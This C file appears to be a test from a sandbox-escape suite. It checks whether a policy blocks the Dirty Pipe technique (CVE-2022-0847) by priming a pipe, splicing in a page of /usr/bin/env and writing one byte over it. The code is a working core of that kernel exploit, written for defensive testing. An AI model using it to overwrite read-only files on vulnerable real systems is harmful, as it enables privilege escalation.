/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack: T46 The Dirty Pipe shape: splice a page of the image into a pipe and write over it (CVE-2022-0847).
 * promise: 1 2
 * held: the policy has no splice
 * plant: yes
 */
#include "../escape.h"

#include <fcntl.h>

/* Fills and empties a pipe, so that every buffer of it once was mergeable. */
static void
prepare(int ends[2])
{
	static char block[4096];
	int room;

	if (pipe(ends) != 0)
		exit(2);
	room = fcntl(ends[1], F_GETPIPE_SZ);
	for (int left = room; left > 0; left -= 4096)
		(void)!write(ends[1], block, 4096);
	for (int left = room; left > 0; left -= 4096)
		(void)!read(ends[0], block, 4096);
}

int
main(int argc, char **argv)
{
	char before[16] = "", after[16] = "";
	int fd = open("/usr/bin/env", O_RDONLY), ends[2];
	off_t offset = 4;

	(void)argv;
	prepare(ends);
	(void)!pread(fd, before, sizeof(before), 0);
	if (splice(fd, &offset, ends[1], NULL, 1, 0) < 0)
		printf("splice: %s\n", errno_name(errno));
	(void)!write(ends[1], "\x7f", 1);
	(void)!pread(fd, after, sizeof(after), 0);
	if (memcmp(before, after, sizeof(before)) != 0 || argc > 1)
		escaped("the page cache of the image was written");
	return verdict("the image's pages are unchanged");
}
